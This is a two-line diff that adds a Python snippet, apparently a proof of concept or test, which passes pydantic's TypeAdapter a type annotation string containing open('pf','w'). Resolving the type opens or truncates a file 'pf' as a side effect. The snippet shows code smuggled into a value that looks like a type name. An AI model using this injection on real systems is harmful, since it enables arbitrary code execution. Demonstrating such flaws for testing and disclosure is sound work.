@@ -1,0 +1,2 @@
+from pydantic import TypeAdapter
+TypeAdapter(list["[open('pf','w'), int][1]"])
